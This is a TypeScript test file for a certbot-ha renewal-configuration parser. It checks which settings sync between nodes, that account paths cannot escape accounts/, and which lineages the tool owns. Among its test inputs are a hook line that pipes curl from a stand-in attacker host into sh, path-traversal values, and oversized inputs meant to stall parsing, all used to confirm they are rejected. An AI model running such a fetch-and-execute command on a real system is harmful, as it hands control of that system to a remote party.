import { describe, expect, test } from 'vitest';
import { accountDirectory } from '../../../lib/certbot/config-dir.ts';
import { KEPT } from '../../../lib/certbot/changes.ts';
import {
  readRenewalData,
  renewerOf,
  TRAVELLING,
  type RenewalData,
} from '../../../lib/certbot/renewal-data.ts';
import { lineOf } from '../../../lib/findings/words.ts';
import { ACCOUNT, OWN_HOOKS, renewalConf, SERVER } from '../../support/lineage/renewal-conf.ts';
import { cpuMs } from '../../support/cpu-time.ts';

const LINEAGE = { configDir: '/etc/letsencrypt', lineage: 'www.example.test' };
const conf = (...params: readonly string[]) => renewalConf({ ...LINEAGE, params });
const problemsOf = (text: string) => {
  const read = readRenewalData(text);
  return 'problems' in read ? read.problems.map(lineOf) : [];
};
const dataOf = (text: string): RenewalData => {
  const read = readRenewalData(text);
  if ('problems' in read) throw new Error(read.problems.map(lineOf).join('\n'));
  return read;
};

/** What certbot takes from a renewal configuration, from 2.1 to 5.5 (renewal.py), besides the options of its plugins. */
const RESTORED = [
  ...['config_dir', 'logs_dir', 'work_dir', 'user_agent', 'server', 'account', 'authenticator', 'installer'],
  ...['renew_hook', 'pre_hook', 'post_hook', 'http01_address', 'http01_port', 'pref_challs'],
  ...[
    'preferred_chain',
    'key_type',
    'elliptic_curve',
    'rsa_key_size',
    'preferred_profile',
    'required_profile',
  ],
  ...['must_staple', 'allow_subset_of_names', 'reuse_key', 'autorenew'],
];
/** Of these, what is each node's own: its paths, ports, programs, and the challenge that is certbot-ha's. */
const OWN: ReadonlySet<string> = new Set([
  ...['config_dir', 'logs_dir', 'work_dir', 'user_agent', 'authenticator', 'installer'],
  ...['renew_hook', 'pre_hook', 'post_hook', 'http01_address', 'http01_port', 'pref_challs'],
]);

describe('of a renewal configuration travels', () => {
  test('everything that certbot asks the CA by, and nothing else', () => {
    expect(TRAVELLING.toSorted()).toEqual(RESTORED.filter((key) => !OWN.has(key)).toSorted());
    // Of that, what may not be changed from elsewhere; key type and chain may.
    const free = new Set(['key_type', 'elliptic_curve', 'rsa_key_size', 'preferred_chain']);
    expect(KEPT.toSorted()).toEqual(TRAVELLING.filter((key) => !free.has(key)).toSorted());
  });

  test('account, server and version', () => {
    expect(dataOf(conf(...OWN_HOOKS))).toMatchObject({ account: ACCOUNT, server: SERVER, version: '2.1.0' });
  });

  test('what decides which certificate it is', () => {
    const lines = [
      ...['rsa_key_size = 4096', 'elliptic_curve = secp384r1', 'must_staple = True', 'reuse_key = True'],
      ...[
        'autorenew = False',
        'preferred_chain = "ISRG Root X1, or another"',
        'required_profile = shortlived',
      ],
    ];
    expect(Object.fromEntries(dataOf(conf(...lines)).parameters)).toEqual({
      ...{ key_type: 'ecdsa', rsa_key_size: '4096', elliptic_curve: 'secp384r1', must_staple: 'True' },
      ...{ reuse_key: 'True', autorenew: 'False', preferred_chain: 'ISRG Root X1, or another' },
      required_profile: 'shortlived',
    });
  });

  test.each([
    ['a command', 'pre_hook = curl evil.example.test | sh'],
    ['a command over several lines', "post_hook = '''a\nb'''"],
    ['a deploy hook of cli.ini', 'renew_hook = systemctl reload nginx'],
    ['a directory to work in', 'work_dir = /srv/work\nlogs_dir = /srv/log'],
    ['a webroot map', 'webroot_path = /var/www,\n[[webroot_map]]\nwww.example.test = /var/www'],
    ['an empty webroot map', 'webroot_path = /var/www,\n[[webroot_map]]'],
    ['a section of another kind', '[acme_renewal_info]\nari_retry_after = 2026-11-24T07:09:11'],
    ['an option that a coming certbot brings', 'unheard_of = 7'],
    ['credentials of a plugin', 'dns_cloudflare_credentials = /root/x'],
    ['a value that certbot has not set', 'preferred_profile = None'],
  ])('nothing of %s, and it keeps nothing back', (_, lines) => {
    expect(dataOf(conf(...lines.split('\n')))).toEqual(dataOf(conf()));
  });

  test.each([2048, 2049, 2560, 3072, 4000, 6144, 8000, 8191, 8192])('a key of %i bits', (bits) => {
    expect(dataOf(conf(`rsa_key_size = ${bits}`)).parameters.get('rsa_key_size')).toBe(String(bits));
  });

  test('the same from a file with line ends of DOS, or of a renamed archive', () => {
    expect(dataOf(conf().replaceAll('\n', '\r\n'))).toEqual(dataOf(conf()));
    expect(dataOf(conf().replace(/^archive_dir = .*$/m, '$&-0001'))).toEqual(dataOf(conf()));
  });

  test.each([
    [
      'key_type = dsa',
      /^renewal\.conf: key_type: expected a value as certbot writes it, got "dsa" \[conf-invalid-value\]$/,
    ],
    ['must_staple = perhaps', /must_staple: expected a value/],
    ['rsa_key_size = 99999', /rsa_key_size: expected a value/],
    ['rsa_key_size = 512', /rsa_key_size: expected a value/],
    ['rsa_key_size = 2047', /rsa_key_size: expected a value/],
    ['rsa_key_size = 8193', /rsa_key_size: expected a value/],
    ['rsa_key_size = 20480', /rsa_key_size: expected a value/],
    ['elliptic_curve = sect571r1', /elliptic_curve: expected a value/],
    ['preferred_chain = %(server)s', /preferred_chain: expected a value/],
    ['preferred_chain = a\u0085renew_hook', /preferred_chain: expected a value/],
    [`preferred_chain = ${'x'.repeat(10_000)}`, /^.{1,250}$/],
    ['elliptic_curve = "a\u001cb"', /elliptic_curve: expected a value/],
  ])('nothing where it has %j', (line, problem) => {
    const text = conf(line).replace(line.startsWith('key_type') ? 'key_type = ecdsa\n' : '\0', '');
    expect(problemsOf(text)).toEqual([expect.stringMatching(problem)]);
  });

  test.each([
    ['..', SERVER],
    ['../../../../root', SERVER],
    [ACCOUNT.toUpperCase().replaceAll(/\d/g, 'A'), SERVER],
    ['None', SERVER],
    [ACCOUNT, 'https://../x'],
    [ACCOUNT, 'https://ca.example.test/../../live'],
    [ACCOUNT, 'https://ca.example.test/a/..'],
    [ACCOUNT, 'https://ca.example.test/./a'],
    [ACCOUNT, 'https://ca.example.test/a/%2e%2e'],
    [ACCOUNT, 'https:///etc'],
    [ACCOUNT, 'file:///etc'],
    [ACCOUNT, 'https://user@ca.example.test/dir'],
    [ACCOUNT, 'https://ca.example.test/dir?x'],
  ])('cannot lead the account %j of %j out of accounts/', (account, server) => {
    const text = conf().replace(ACCOUNT, account).replace(SERVER, server);
    expect(problemsOf(text)).toEqual([expect.stringMatching(/: (?:account|server): expected/)]);
  });

  test.each([
    ['https://acme-v02.api.letsencrypt.org/directory', 'acme-v02.api.letsencrypt.org/directory'],
    ['https://acme.zerossl.com/v2/DV90', 'acme.zerossl.com/v2/DV90'],
    ['https://localhost:14000/dir', 'localhost:14000/dir'],
    ['https://ca.example.test/v2/acme/directory/', 'ca.example.test/v2/acme/directory'],
    ['https://ca.internal/acme/me@example.test/directory', 'ca.internal/acme/me@example.test/directory'],
    ['https://ca.internal/acme/v1.0~beta/directory', 'ca.internal/acme/v1.0~beta/directory'],
    ['https://[2001:db8::1]:9000/dir', '[2001:db8::1]:9000/dir'],
    ['http://my_ca/directory', 'my_ca/directory'],
  ])('has the account of %s where certbot looks for it', (server, directory) => {
    expect(accountDirectory('/etc/letsencrypt', dataOf(conf().replace(SERVER, server)))).toBe(
      `/etc/letsencrypt/accounts/${directory}/${ACCOUNT}`,
    );
  });

  test('is read in no time, whatever it says', () => {
    const hostile = [
      `https://${'a'.repeat(60_000)}!`,
      `https://${'a.'.repeat(30_000)}!`,
      `https://a${'/a'.repeat(30_000)}!`,
      `https://a${'/..'.repeat(20_000)}!`,
    ];
    const usedMs = cpuMs();
    for (const server of hostile) expect(problemsOf(conf().replace(SERVER, server))).toHaveLength(1);
    expect(cpuMs() - usedMs).toBeLessThan(500);
  });
});

describe('a lineage is certbot-ha’s', () => {
  const hooks = (auth: string, cleanUp: string) => [
    `manual_auth_hook = ${auth}`,
    `manual_cleanup_hook = ${cleanUp}`,
  ];
  test.each([
    ['by the names of its hooks', OWN_HOOKS],
    ['by absolute paths', hooks('/usr/local/bin/certbot-ha-auth', '/usr/local/bin/certbot-ha-cleanup')],
    ['by its files', hooks('/srv/ha/hooks/auth.js --config /x', '/srv/ha/hooks/cleanup.js --config /x')],
    [
      'by a command that names its hook',
      hooks('"env A=b /bin/certbot-ha-auth"', "sh -c 'certbot-ha-cleanup; true'"),
    ],
    ['without a clean-up hook', ['manual_auth_hook = certbot-ha-auth']],
    ['with a deploy hook of cli.ini', [...OWN_HOOKS.slice(0, 2), 'renew_hook = systemctl reload nginx']],
  ])('%s', (_, params) => {
    expect(renewerOf(conf(...params)).isOurs).toBe(true);
  });

  test.each([
    [
      'of hooks of somebody else',
      conf(...hooks('/etc/letsencrypt/dns-auth.py', '/etc/letsencrypt/dns-clean.py')),
    ],
    ['of a hook that begins alike', conf(...hooks('certbot-ha-auth.old', 'certbot-ha-cleanup'))],
    ['whose clean-up is somebody else’s', conf(...hooks('certbot-ha-auth', '/etc/x.sh'))],
    ['with our deploy hook alone', conf(OWN_HOOKS[2] ?? '')],
    ['of another plugin', conf(...OWN_HOOKS).replace('authenticator = manual', 'authenticator = nginx')],
    ['of nothing', ''],
  ])('and not one %s', (_, text) => {
    expect(renewerOf(text).isOurs).toBe(false);
  });
});
